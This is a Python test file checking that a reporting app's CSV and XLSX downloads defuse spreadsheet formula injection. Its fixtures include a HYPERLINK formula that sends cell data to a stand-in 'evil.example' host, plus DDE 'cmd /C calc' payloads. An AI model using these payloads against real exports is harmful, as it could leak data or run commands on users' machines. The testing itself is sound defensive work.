"""Formula injection in the CSV and XLSX downloads (issue 13): user text that a spreadsheet would
read as a formula is written as text with a leading ``'``, XLSX text cells are never formulas,
numbers stay numbers — in every export (weekly report, ranking, year, the problem ledger), from
the API and from the pages' download links."""
import csv
import io

import openpyxl
from sqlalchemy import update

from api.exports import cell_value, csv_response, xlsx_response
from api.models import Department
from tests.test_web_pages import Web
from workflows.supervision.models import Item, ItemReport

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
HOSTILE = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_csv_safe(content):
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(table) > 1
    for row in table:
        for value in row:
            assert not value.startswith(FORMULA_STARTS) or is_number(value), (value, row)
    return table


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_xlsx_safe(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
    return [list(r) for r in sheet.values]


def test_cell_value_neutralises_formula_text_only():
    for text in HOSTILE:
        assert cell_value(text) == "'" + text
    for value in ("发展和改革委员会", "2026-10-08", "a=b", "", 5, -3, 2.5, None, True):
        assert cell_value(value) == value


def test_csv_and_xlsx_writers_keep_hostile_text_as_text_and_numbers_as_numbers():
    columns = [("name", "=名称"), ("count", "数量")]
    rows = [{"name": text, "count": -index} for index, text in enumerate(HOSTILE)]
    table = assert_csv_safe(csv_response(columns, rows, "t").get_data())
    assert table[0] == ["'=名称", "数量"]
    assert [r[0] for r in table[1:]] == ["'" + t for t in HOSTILE]
    values = assert_xlsx_safe(xlsx_response(columns, rows, "t", "表").get_data())
    assert values[0] == ["'=名称", "数量"]
    assert values[1:] == [["'" + t, -i] for i, t in enumerate(HOSTILE)]


def test_every_report_download_is_neutralised(history_server):
    """Department names, item titles and report summaries carry formulas; no download has one."""
    engine = history_server.engine
    with engine.db.write() as session:
        for code, text in zip(("d1", "d2", "d3"), HOSTILE):
            session.execute(update(Department).where(Department.code == code).values(name=text))
        session.execute(update(Item).values(title="+cmd|' /C calc'!A0"))
        session.execute(update(ItemReport).values(summary=HYPERLINK))
    sec = history_server.login("sec")
    downloads = [("/api/v1/reports/weekly", {"week": "2026-W42"}), ("/api/v1/reports/weekly", {"week": "2026-W43"}),
                 ("/api/v1/reports/ranking", {"month": "2026-10"}), ("/api/v1/reports/year", {"year": 2026})]
    seen = set()
    for path, params in downloads:
        for format_ in ("csv", "xlsx"):
            response = sec.get(path, params={**params, "format": format_})
            assert response.status_code == 200, (path, response.text)
            check = assert_csv_safe if format_ == "csv" else assert_xlsx_safe
            seen.update(v for row in check(response.content) for v in row if isinstance(v, str))
    assert "'" + HYPERLINK in seen and "'+cmd|' /C calc'!A0" in seen and "'" + HOSTILE[1] in seen

    web = Web(history_server.app, "sec")
    for path in ("/reports/weekly.csv?week=2026-W43", "/reports/ranking.csv?month=2026-10", "/reports/year.csv"):
        assert_csv_safe(web.get(path).data)
    for path in ("/reports/weekly.xlsx?week=2026-W43", "/reports/ranking.xlsx?month=2026-10", "/reports/year.xlsx"):
        assert_xlsx_safe(web.get(path).data)


def test_ledger_downloads_are_neutralised(server):
    sec = server.login("sec")
    for title in (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"):
        response = sec.post("/api/v1/problems", {"title": title, "source": "inspection", "department": "d1",
                                                 "description": "=1+1", "deadline": "2026-12-31"})
        assert response.status_code == 201, response.text
    titles = set()
    for format_ in ("csv", "xlsx"):
        response = sec.get("/api/v1/problems", params={"format": format_})
        check = assert_csv_safe if format_ == "csv" else assert_xlsx_safe
        titles.update(row[1] for row in check(response.content)[1:])
    assert titles == {"'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0"}
    web = Web(server.app, "sec")
    assert_csv_safe(web.get("/problems.csv").data)
    assert_xlsx_safe(web.get("/problems.xlsx").data)


def test_text_xml_cannot_hold_still_exports():
    """A control character (say in a department name) is replaced in an XLSX cell, not a 500."""
    from io import BytesIO

    from openpyxl import load_workbook

    from api.exports import xlsx_response

    response = xlsx_response([("name", "部门")], [{"name": "督查\x0b室"}], "odd", "odd")
    cell = load_workbook(BytesIO(response.get_data())).active["A2"]
    assert cell.value == "督查\ufffd室" and cell.data_type == "s"


def test_instants_in_exports_are_local_times():
    """``local_time``: an API instant as the pages show it, in the calendar's zone; dates stay dates."""
    from api.exports import local_time
    from engine.calendar import BusinessCalendar

    calendar = BusinessCalendar()
    assert local_time("2026-10-09T11:00:00+00:00", calendar) == "2026-10-09 19:00"
    assert local_time("2026-10-09T01:31:00+00:00", calendar) == "2026-10-09 09:31"
    assert local_time("2026-10-09T01:31:00", calendar) == "2026-10-09 09:31"  # naive: the database's UTC
    assert local_time("2026-10-09T09:31:00+08:00", calendar) == "2026-10-09 09:31"
    assert [local_time(v, calendar) for v in ("2026-12-31", None, "")] == ["2026-12-31", None, ""]
